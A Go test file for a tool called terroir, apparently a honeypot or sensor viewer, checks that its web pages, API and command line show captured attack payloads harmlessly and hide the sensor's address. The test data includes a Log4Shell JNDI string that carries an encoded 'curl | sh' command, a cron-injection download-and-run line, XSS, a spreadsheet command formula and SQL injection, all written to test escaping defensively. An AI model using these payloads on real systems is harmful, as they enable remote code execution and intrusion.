package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"terroir/hub"
	"terroir/query"
)

const ownAddress = "198.18.7.9"

// hostile are payloads that would do harm where they are shown carelessly, and name a sensor and indicators.
var hostile = []string{
	"GET /<script>alert(1)</script> HTTP/1.1\r\nHost: " + ownAddress + ":8888\r\nX-Api-Version: ${jndi:ldap://45.9.150.36:1389/Basic/Command/Base64/" +
		base64.StdEncoding.EncodeToString([]byte("curl http://45.9.150.36/\"onload=\"x.sh | sh")) + "}\r\nUser-Agent: \x1b[31m\u202ered http://evil.example.com/\r\n\r\n",
	"set x \"\\n* * * * * curl http://" + ownAddress + "/<b>.sh|sh\\n\"\r\n",
	"\x00\x01\x02\xff=cmd|' /C calc'!A0",
}

// hostileLake is a lake with these payloads, as an import makes it.
func hostileLake(t *testing.T) *answers {
	t.Helper()
	dir := t.TempDir()
	mapping, file := filepath.Join(dir, "map.yaml"), filepath.Join(dir, "hostile.jsonl")
	if err := os.WriteFile(mapping, []byte("columns: {ts: t, src_ip: from, dst_ip: to, dst_port: port, payload: data}\nformats: {payload: base64}\nconstants: {transport: tcp, kind: payload}\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	var lines strings.Builder
	for i, p := range hostile {
		for n := range 3 {
			line, err := json.Marshal(map[string]any{"t": fmt.Sprintf("2022-06-1%dT0%d:00:00Z", 4+n, i), "from": fmt.Sprintf("100.64.0.%d", 10*i+n), "to": ownAddress, "port": 8888, "data": []byte(p)})
			if err != nil {
				t.Fatal(err)
			}
			fmt.Fprintln(&lines, string(line))
		}
	}
	if err := os.WriteFile(file, []byte(lines.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	a, _ := imported(t, "--format", "jsonl", "--mapping", mapping, "--sensor", "s", "--region", "eu-west-3", file)
	return a
}

// fetch gets a page or an answer of the API.
func fetch(t *testing.T, srv *httptest.Server, path string) (status int, body string) {
	t.Helper()
	r, err := http.Get(srv.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Body.Close()
	b, err := io.ReadAll(r.Body)
	if err != nil {
		t.Fatal(err)
	}
	return r.StatusCode, string(b)
}

func TestWhatAStrangerSentIsShownHarmlessAndWithoutTheSensorsAddress(t *testing.T) {
	a := hostileLake(t)
	site := &site{&store{a.lake, query.Remember(a.engine, a.lake), a.views, a.groups}, hub.New(a.lake, nil, hub.Options{}), &door{}, nil}
	handler, err := site.handler()
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(handler)
	defer srv.Close()
	pages := []string{"/payloads"}
	for _, row := range a.sql("SELECT DISTINCT e.payload_id, h.family_id FROM events e JOIN payload_facts f ON f.payload_id = e.payload_id JOIN families h ON h.template_id = f.template_id") {
		pages = append(pages, "/payloads/"+row[0].(string), "/payloads/"+row[0].(string)[:8], "/families/"+row[1].(string))
	}
	if len(pages) != 1+3*len(hostile) {
		t.Fatalf("pages are %v", pages)
	}
	for _, p := range pages {
		status, body := fetch(t, srv, p)
		if status != http.StatusOK {
			t.Errorf("%s: status %d: %.300s", p, status, body)
		}
		for _, bad := range []string{"<script>alert", "<b>.sh", `"onload="`, ownAddress, "\x1b", "\u202e", "http://45.9.150.36"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s has %q", p, bad)
			}
		}
	}
	status, body := fetch(t, srv, "/api/v1"+pages[1])
	var p struct {
		ID     string `json:"payload_id"`
		Bytes  []byte `json:"bytes"`
		Masked bool   `json:"masked"`
	}
	if err := json.Unmarshal([]byte(body), &p); status != http.StatusOK || err != nil || "/payloads/"+p.ID != pages[1] || strings.Contains(string(p.Bytes), ownAddress) {
		t.Errorf("the API says %d %v %.200s", status, err, body)
	}
	for path, want := range map[string]int{"/payloads/xyz": http.StatusUnprocessableEntity, "/payloads/' OR 1=1 --": http.StatusUnprocessableEntity, "/families/000000": http.StatusNotFound,
		"/payloads/" + p.ID + "?nothing=1": http.StatusUnprocessableEntity, "/api/v1/payloads/000000": http.StatusNotFound, "/api/v1/families/zz": http.StatusUnprocessableEntity} {
		if status, body := fetch(t, srv, strings.ReplaceAll(path, " ", "%20")); status != want {
			t.Errorf("%s: status %d, not %d: %.200s", path, status, want, body)
		}
	}
}

func TestPayloadAndFamilyOnTheCommandLine(t *testing.T) {
	a := hostileLake(t)
	for i, raw := range hostile {
		row := a.sql("SELECT p.payload_id, h.family_id FROM payloads p JOIN payload_facts f ON f.payload_id = p.payload_id JOIN families h ON h.template_id = f.template_id WHERE p.size = %d", len(raw))
		id, fam := row[0][0].(string), row[0][1].(string)
		dir := filepath.Dir(a.lake.Dir())
		for command, wants := range map[string][]string{
			"payload " + id[:10]:              {id, "Hex:", "100.64.0."},
			"family " + fam[:10]:              {fam, "Where:", "100.64.0."},
			"payload " + id + " -o json":      {`"payload_id": "` + id},
			"family " + fam + " -o json":      {`"family_id": "` + fam},
			"view payloads":                   {id[:12]},
			"view indicators --param top=100": {"type"},
		} {
			said, code := shell(t, []string{"env"}, "terroir "+command+" --dir '"+dir+"'")
			if code != 0 {
				t.Errorf("%s: exit code %d: %s", command, code, said)
			}
			for _, want := range wants {
				if !strings.Contains(said, want) {
					t.Errorf("%s does not say %q: %.400s", command, want, said)
				}
			}
			for _, bad := range []string{"\x1b", "\u202e", ownAddress} {
				if strings.Contains(said, bad) {
					t.Errorf("%s says %q", command, bad)
				}
			}
		}
		if said, code := shell(t, []string{"env"}, "terroir payload "+id+" -o raw --dir '"+dir+"'"); code != 0 || strings.TrimSpace(said) != strings.TrimSpace(raw) {
			t.Errorf("payload %d as it was sent is %q", i, said)
		}
	}
}
